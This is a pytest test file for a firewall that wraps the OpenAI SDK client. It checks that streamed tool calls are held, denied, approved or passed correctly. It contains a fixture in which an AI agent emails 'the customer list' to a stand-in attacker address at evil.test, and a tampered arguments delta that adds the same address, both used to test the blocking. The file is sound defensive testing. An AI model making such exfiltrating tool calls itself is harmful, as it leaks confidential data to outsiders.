"""Streams through the drop-in client: tool calls held until decided, text passed at once.

The events the caller gets are read by the SDK's own stream helpers, so a malformed event,
an index gap or an inconsistent finish would fail here as it would for a user.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import threading

import pytest

from adapters.openai import AsyncOpenAI, OpenAI, run_tool_calls
from firewall import Firewall, load_policy
from firewall.redact.engine import analyzer_for
from tests.conftest import POLICIES
from tests.openai_api import (
    Reply,
    Server,
    chunks,
    fc_item,
    function_call,
    response_events,
    text_item,
)

EXTERNAL = {"to": "x@evil.test", "body": "the customer list"}
CALLS = [
    function_call("c1", "send_email", EXTERNAL),
    function_call("c2", "search_docs", {"query": "open orders"}),
]


@pytest.fixture(scope="module", autouse=True)
def engine() -> None:
    analyzer_for(True)


@pytest.fixture(scope="module")
def server():
    with Server() as running:
        yield running


@pytest.fixture
def api(server):
    server.state.replies.clear()
    server.state.received.clear()
    return server


@pytest.fixture
def fw() -> Firewall:
    return Firewall(load_policy(POLICIES / "default.yaml"))


def client_for(api, fw: Firewall) -> OpenAI:
    return OpenAI(
        firewall=fw,
        api_key="t",
        base_url=api.url,
        context={"env": "production"},
        session="s1",
        max_retries=0,
    )


ASK = {"model": "gpt-test", "messages": [{"role": "user", "content": "Check the orders."}]}


# -- chat completions ------------------------------------------------------------------


def test_chat_stream_drops_the_denied_call_and_keeps_the_rest(api, fw) -> None:
    api.state.replies.append(Reply(events=chunks("Let me look that up.", CALLS)))
    stream = client_for(api, fw).chat.completions.create(**ASK, stream=True)
    got = list(stream)
    text = "".join(c.choices[0].delta.content or "" for c in got if c.choices)
    assert text == "Let me look that up."
    calls = [t for c in got if c.choices for t in c.choices[0].delta.tool_calls or ()]
    assert [(t.index, t.id, t.function.name) for t in calls] == [(0, "c2", "search_docs")]
    assert json.loads(calls[0].function.arguments) == {"query": "open orders"}
    finishes = [c.choices[0].finish_reason for c in got if c.choices and c.choices[0].finish_reason]
    assert finishes == ["tool_calls"]
    assert got[-1].choices == [] and got[-1].usage.total_tokens == 3  # usage-only chunk passed
    note = next(
        c.choices[0].delta.firewall for c in got if c.choices and c.choices[0].finish_reason
    )
    assert note["denied"][0]["id"] == "c1"
    assert "send_email" not in json.dumps(
        [c.model_dump() for c in got if not c.choices or c.choices[0].finish_reason is None]
    )


def test_the_sdk_stream_helper_accumulates_only_allowed_calls(api, fw) -> None:
    client = client_for(api, fw)
    api.state.replies += [
        Reply(events=chunks("One moment.", CALLS)),
        Reply(events=chunks("All done.")),
    ]
    with client.chat.completions.stream(**ASK) as stream:
        kinds = [event.type for event in stream]
        final = stream.get_final_completion()
    assert "tool_calls.function.arguments.done" in kinds
    message = final.choices[0].message
    assert [c.id for c in message.tool_calls] == ["c2"]
    assert message.content == "One moment."
    assert message.firewall["denied"][0]["id"] == "c1"

    messages = [
        *ASK["messages"],
        message,
        *run_tool_calls(final, {"search_docs": lambda query: "2 open"}),
    ]
    with client.chat.completions.stream(model="gpt-test", messages=messages) as stream:
        assert stream.get_final_completion().choices[0].message.content == "All done."
    sent = api.state.received[-1][1]
    assert {c["id"] for c in sent["messages"][1]["tool_calls"]} == {"c1", "c2"}
    reasons = {m["tool_call_id"]: m["content"] for m in sent["messages"] if m["role"] == "tool"}
    assert "denied by the firewall" in reasons["c1"]


def test_chat_stream_with_every_call_denied_finishes_with_stop(api, fw) -> None:
    api.state.replies.append(Reply(events=chunks("", [CALLS[0]])))
    with client_for(api, fw).chat.completions.stream(**ASK) as stream:
        final = stream.get_final_completion()
    assert final.choices[0].finish_reason == "stop"
    assert not final.choices[0].message.tool_calls


def test_text_deltas_are_not_held_back(api, fw) -> None:
    """The server sends the tool call only after the caller has seen the text."""
    seen_text = threading.Event()
    events = chunks("Hello there, checking.", CALLS)
    first_call = next(i for i, (_, d) in enumerate(events) if "tool_calls" in json.dumps(d))
    api.state.replies.append(Reply(events=events, gate=seen_text, gate_at=first_call))
    client = client_for(api, fw).with_options(timeout=20)
    got = []
    for chunk in client.chat.completions.create(**ASK, stream=True):
        got.append(chunk)
        text = "".join(c.choices[0].delta.content or "" for c in got if c.choices)
        if text == "Hello there, checking.":
            seen_text.set()
    assert seen_text.is_set()
    assert any(c.choices and c.choices[0].delta.tool_calls for c in got)


# -- responses ---------------------------------------------------------------------------


def test_responses_stream_is_consistent_for_the_sdk_helper(api, fw) -> None:
    items = [
        text_item("Checking."),
        fc_item("c1", "send_email", EXTERNAL),
        fc_item("c2", "search_docs", {"query": "q"}),
    ]
    api.state.replies.append(Reply(events=response_events(*items, id="resp_S")))
    with client_for(api, fw).responses.stream(model="gpt-test", input="go") as stream:
        events = list(stream)
        final = stream.get_final_response()
    assert [i.type for i in final.output] == ["message", "function_call"]
    assert final.output[1].call_id == "c2"
    assert final.firewall["denied"][0]["call_id"] == "c1"
    numbers = [e.sequence_number for e in events]
    assert numbers == list(range(len(numbers)))
    indexes = sorted({e.output_index for e in events if hasattr(e, "output_index")})
    assert indexes == [0, 1]
    assert all(
        "send_email" not in json.dumps(e.model_dump())
        for e in events
        if e.type != "response.completed"
    )
    assert events[-1].type == "response.completed"


def test_responses_stream_denial_is_answered_on_the_next_request(api, fw) -> None:
    client = client_for(api, fw)
    api.state.replies += [
        Reply(events=response_events(fc_item("c1", "send_email", EXTERNAL), id="resp_T")),
        Reply(events=response_events(text_item("ok"), id="resp_U")),
    ]
    stream = client.responses.create(model="gpt-test", input="mail it", stream=True)
    final = next(e for e in stream if e.type == "response.completed").response
    assert final.output == []
    stream = client.responses.create(
        model="gpt-test", input=[], previous_response_id=final.id, stream=True
    )
    list(stream)
    sent = api.state.received[-1][1]["input"]
    assert sent[0]["call_id"] == "c1" and "denied by the firewall" in sent[0]["output"]


def test_an_unreadable_event_is_not_passed_on(api, fw) -> None:
    api.state.replies.append(Reply(events=[(None, "{not json")]))
    with pytest.raises(Exception, match="could not read an event"):
        list(client_for(api, fw).chat.completions.create(**ASK, stream=True))


# -- async -------------------------------------------------------------------------------


def test_async_streams(api, fw) -> None:
    async def run() -> None:
        client = AsyncOpenAI(
            firewall=fw, api_key="t", base_url=api.url, context={"env": "production"}
        )
        api.state.replies.append(Reply(events=chunks("Hi.", CALLS)))
        async with client.chat.completions.stream(**ASK) as stream:
            async for _ in stream:
                pass
            final = await stream.get_final_completion()
        assert [c.id for c in final.choices[0].message.tool_calls] == ["c2"]

        items = [
            fc_item("c1", "send_email", EXTERNAL),
            fc_item("c2", "search_docs", {"query": "q"}),
        ]
        api.state.replies.append(Reply(events=response_events(*items)))
        async with client.responses.stream(model="gpt-test", input="go") as stream:
            async for _ in stream:
                pass
            response = await stream.get_final_response()
        assert [i.call_id for i in response.output] == ["c2"]
        await client.close()

    asyncio.run(run())


def test_the_caller_accumulates_exactly_the_arguments_that_were_checked(api, fw) -> None:
    """Deltas that disagree with the finished item never reach the caller."""
    events = response_events(fc_item("c2", "search_docs", {"query": "open orders"}))
    for _, data in events:
        if data["type"] == "response.function_call_arguments.delta":
            data["delta"] = '{"query": "x", "to": "x@evil.test"}'[: len(data["delta"])]
    api.state.replies.append(Reply(events=events))
    got = list(client_for(api, fw).responses.create(model="gpt-test", input="go", stream=True))
    deltas = "".join(e.delta for e in got if e.type == "response.function_call_arguments.delta")
    assert json.loads(deltas) == {"query": "open orders"}
    numbers = [e.sequence_number for e in got]
    assert numbers == list(range(len(numbers)))


def test_events_survive_any_split_of_the_byte_stream() -> None:
    """A server may cut its stream anywhere, and may end lines with CRLF."""
    from hypothesis import given, settings
    from hypothesis import strategies as st

    from adapters.openai.streams import Events, parse

    blocks = [
        b'event: response.created\r\ndata: {"a": 1}',
        b'data: {"b": "two\\nlines"}',
        b"data: [DONE]",
    ]
    raw = b"\r\n\r\n".join(blocks) + b"\r\n\r\n"

    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.integers(min_value=0, max_value=len(raw)), max_size=12))
    def check(cuts: list[int]) -> None:
        events, got = Events(), []
        edges = [0, *sorted(cuts), len(raw)]
        for start, end in itertools.pairwise(edges):
            got += events.feed(raw[start:end])
        got += events.end()
        assert [parse(b) for b in got] == [
            ("response.created", '{"a": 1}'),
            (None, '{"b": "two\\nlines"}'),
            (None, "[DONE]"),
        ]

    check()


def test_sessions_do_not_share_placeholders_through_the_client(api, fw) -> None:
    client = client_for(api, fw)
    other = client.with_session("s2")
    record = "Maria, email maria.lopez@example.com"
    api.state.replies += [Reply(events=chunks("ok")), Reply(events=chunks("ok"))]
    assistant = {
        "role": "assistant",
        "tool_calls": [function_call("c1", "search_docs", {"query": "m"})],
    }
    tool = {"role": "tool", "tool_call_id": "c1", "content": record}
    list(client.chat.completions.create(model="gpt-test", messages=[assistant, tool], stream=True))
    mail = function_call("c2", "send_email", {"to": "<EMAIL_ADDRESS_1>", "body": "hi"})
    api.state.replies.append(Reply(events=chunks("", [mail])))
    got = list(other.chat.completions.create(**ASK, stream=True))
    calls = [t for c in got if c.choices for t in c.choices[0].delta.tool_calls or ()]
    # In s2 the placeholder stands for nothing: it is not turned into s1's address.
    assert all("maria.lopez" not in (t.function.arguments or "") for t in calls)


def test_each_choice_of_a_stream_is_held_and_finished_on_its_own(api, fw) -> None:
    first = chunks("A.", [CALLS[0]], usage=False)[:-1]  # choice 0 proposes the denied mail
    second = chunks("B.", [CALLS[1]], usage=False)[:-1]  # choice 1 the allowed search
    for _, data in second:
        data["choices"][0]["index"] = 1
    pairs = itertools.zip_longest(first, second)
    events = [e for pair in pairs for e in pair if e is not None] + [(None, "[DONE]")]
    api.state.replies.append(Reply(events=events))
    with client_for(api, fw).chat.completions.stream(**ASK, n=2) as stream:
        final = stream.get_final_completion()
    one, two = final.choices
    assert one.message.content == "A." and not one.message.tool_calls
    assert one.finish_reason == "stop"
    assert two.message.content == "B." and [c.id for c in two.message.tool_calls] == ["c2"]
    assert two.finish_reason == "tool_calls"


def test_a_stream_waits_for_the_approver_and_releases_what_it_approved(api) -> None:
    from firewall import CallbackApprover, Principal

    asked = []
    fw = Firewall(
        load_policy(POLICIES / "default.yaml"),
        approver=CallbackApprover(lambda r: asked.append(r.call.arguments["amount"]) or True),
    )
    client = OpenAI(
        firewall=fw, api_key="t", base_url=api.url, principal=Principal(id="b", roles=("finance",))
    )
    pay = function_call("p1", "send_money", {"to": "acme", "amount": 40})
    api.state.replies.append(Reply(events=chunks("Paying.", [pay])))
    with client.chat.completions.stream(**ASK) as stream:
        final = stream.get_final_completion()
    assert asked == [40]
    (call,) = final.choices[0].message.tool_calls
    assert call.id == "p1" and json.loads(call.function.arguments)["amount"] == 40
    assert final.choices[0].message.firewall["decisions"][0]["approved_by"] == "callback"


def test_the_client_needs_a_firewall() -> None:
    with pytest.raises(TypeError, match="firewall"):
        OpenAI(firewall=None, api_key="t")


def test_raw_stream_lines_hold_no_denied_call(api, fw) -> None:
    api.state.replies.append(Reply(events=chunks("Sure.", CALLS)))
    create = client_for(api, fw).chat.completions.with_streaming_response.create
    with create(**ASK, stream=True) as response:
        lines = [line for line in response.iter_lines() if line.startswith("data: {")]
    names = [
        call["function"]["name"]
        for line in lines
        for choice in json.loads(line[6:])["choices"]
        for call in choice["delta"].get("tool_calls") or ()
    ]
    assert names == ["search_docs"]
